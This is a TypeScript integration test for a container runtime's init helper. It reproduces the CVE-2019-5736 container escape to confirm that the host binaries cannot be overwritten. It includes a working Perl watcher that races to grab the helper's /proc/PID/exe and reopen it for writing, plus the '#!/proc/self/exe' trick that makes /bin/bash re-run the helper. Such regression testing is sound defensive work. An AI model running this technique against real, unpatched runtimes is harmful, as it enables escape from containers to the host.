// Root integration test of CVE-2019-5736 (overwriting the runtime's binary on the host through
// /proc/PID/exe) against conductor's init helper, performed for real: container root replaces
// /bin/bash with "#!/proc/self/exe", so the host's `conductor exec c -- /bin/bash` makes the
// helper execute itself again, unprivileged, inside the container. A watcher in the container
// grabs every helper's exe with O_PATH while it runs and, once it has exited, reopens it through
// /proc/self/fd/N for writing. It is a race, so it is run many times; the watcher reports what it
// saw and managed. The helper must only ever be a sealed memfd: the host files stay unchanged.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { copyFileSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import { buildCli, cli, makeFixture, REPO, stopQuiet, until } from '../helpers/runtime-fixture.ts';
import { uniqueName } from '../helpers/temp-root.ts';

const HOST_FILES = ['native/conductor-init', 'native/conductor-monitor'].map((f) => path.join(REPO, f));
const sha256 = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

execFileSync('make', ['-s', '-C', path.join(REPO, 'native')], { stdio: 'inherit' });
buildCli();
const f = await makeFixture('exe');
const c = (...args: string[]) => cli(f.env, args);
// If the protection ever fails, the helper is destroyed: keep a copy to put back, so one failure
// does not take every later test (and the next `conductor` command on this host) with it.
const backup = mkdtempSync('/tmp/conductor-exe-backup-');
for (const file of HOST_FILES) copyFileSync(file, path.join(backup, path.basename(file)));

function restoreHostFiles(): void {
  for (const file of HOST_FILES) {
    const saved = path.join(backup, path.basename(file));
    if (sha256(file) !== sha256(saved)) copyFileSync(saved, file);
  }
}

test.after(async () => {
  restoreHostFiles();
  rmSync(backup, { recursive: true, force: true });
  await f.cleanup();
});

// The watcher (perl-base is in every Debian minbase). New PIDs in the container's namespace come
// in order, so besides a full scan of /proc it spins on the next few PIDs: an attacker would.
// It never writes anything executable: a success is reported, and leaves a harmless text file.
const WATCHER = String.raw`
use strict; use warnings; use Fcntl; use POSIX ();
my ($report, $stop) = @ARGV;
my $O_PATH = 010000000;
open(my $out, ">>", $report) or die "report: $!"; select($out); $| = 1;
my (%seen, @held);
my ($top, $n, $observed, $opened, $writable, $wrote) = ($$, 0, 0, 0, 0, 0);
sub look {
  my $p = shift;
  my $l = readlink("/proc/$p/exe");
  return unless defined $l && $l =~ /conductor-init/;
  my $start = "?";
  if (open(my $s, "<", "/proc/$p/stat")) { my $line = <$s>;
    $start = (split / /, substr($line, rindex($line, ")") + 2))[19] }
  return if $seen{"$p:$start:$l"}++;
  $observed++;
  if (sysopen(my $h, "/proc/$p/exe", $O_PATH)) { $opened++; print "opath $p $l\n"; push @held, [$p, $h, $l] }
  else { print "opath-refused $p $! $l\n" }
}
print "ready\n";
until (-e $stop) {
  if ($n++ % 64 == 0) {
    opendir(my $d, "/proc") or die;
    for my $p (grep { /^\d+$/ } readdir $d) { $top = $p if $p > $top; look($p) if $p != $$ }
    closedir $d;
  }
  for my $p ($top + 1 .. $top + 6) { next unless -e "/proc/$p"; $top = $p; look($p) }
  my @keep;
  for my $e (@held) {
    my ($p, $h, $l) = @$e;
    my $fd = fileno($h);
    if (sysopen(my $w, "/proc/self/fd/$fd", O_WRONLY | O_TRUNC)) {
      $writable++; print "WRITABLE $p $l\n"; syswrite($w, "overwritten from inside a container\n"); next;
    }
    if ($! == POSIX::ETXTBSY) { push @keep, $e; next }
    my $trunc = "$!";
    if (sysopen(my $w, "/proc/self/fd/$fd", O_WRONLY)) {
      if (defined syswrite($w, "X")) { $wrote++; print "WROTE $p $l\n" }
      else { print "write-refused $p trunc: $trunc; write: $! $l\n" }
    } else { print "open-refused $p trunc: $trunc; wronly: $! $l\n" }
  }
  @held = @keep;
}
print "summary observed=$observed opened=$opened writable=$writable wrote=$wrote\n";
`;

test('CVE-2019-5736: a container cannot overwrite the helper on the host through /proc/PID/exe', async () => {
  const name = uniqueName('exe');
  const before = HOST_FILES.map(sha256);
  try {
    assert.is((await c('run', '-d', f.image, name, '--', 'sleep', 'infinity')).code, 0);
    const prep = await c(
      'exec',
      name,
      '--',
      'sh',
      '-c',
      'cp /bin/bash /bin/bash.real && printf "#!/proc/self/exe\\n" > /bin/bash',
    );
    assert.is(prep.code, 0, prep.stderr);
    assert.is(
      (await c('exec', '-d', name, '--', 'perl', '-e', WATCHER, '/tmp/watch.report', '/tmp/watch.stop')).code,
      0,
    );
    await until('the watcher', async () =>
      (await c('exec', name, '--', 'cat', '/tmp/watch.report')).stdout.includes('ready'),
    );
    // At least 10 rounds, and on until the watcher has caught helpers in the act (else the race
    // was never run and the test would prove nothing).
    const codes: number[] = [];
    let report = '';
    let overwrittenAt = -1;
    for (let round = 0; round < 60; round++) {
      const r = await c('exec', name, '--', '/bin/bash', '-c', 'true');
      codes.push(r.code ?? -1);
      if (!HOST_FILES.map(sha256).every((h, i) => h === before[i])) {
        overwrittenAt = round;
        restoreHostFiles(); // so that the report below can still be read
        break;
      }
      if (round < 9) continue;
      report = (await c('exec', name, '--', 'cat', '/tmp/watch.report')).stdout;
      if ((report.match(/^opath /gm) ?? []).length >= 3) break;
    }
    assert.is((await c('exec', name, '--', 'touch', '/tmp/watch.stop')).code, 0);
    report = await until("the watcher's summary", async () => {
      const out = (await c('exec', name, '--', 'cat', '/tmp/watch.report')).stdout;
      return out.includes('summary') ? out : '';
    });
    assert.is(overwrittenAt, -1, `the container overwrote the host's helper in round ${overwrittenAt + 1}:\n${report}`);
    process.stdout.write(`  ${codes.length} rounds; watcher: ${/summary (.*)/.exec(report)![1]}\n`);
    // The helper ran as "/bin/bash"'s interpreter and refused the call (usage error, 125).
    assert.ok(
      codes.every((code) => code === 125),
      `exit codes of the host's exec: ${codes.join(' ')}`,
    );
    const opened = report.match(/^opath .*$/gm) ?? [];
    assert.ok(opened.length >= 1, `the watcher never caught a helper running: the attack did not run\n${report}`);
    for (const line of opened)
      assert.match(line, /^opath \d+ \/memfd:conductor-init/, `a helper ran from a file, not its sealed copy: ${line}`);
    assert.not.match(report, /^(WRITABLE|WROTE) /m, `the container opened the helper for writing:\n${report}`);
    assert.match(report, /writable=0 wrote=0/);
  } finally {
    await stopQuiet(f.root, name);
  }
  assert.equal(HOST_FILES.map(sha256), before, "the host's helper binaries are unchanged");
});

test.run();
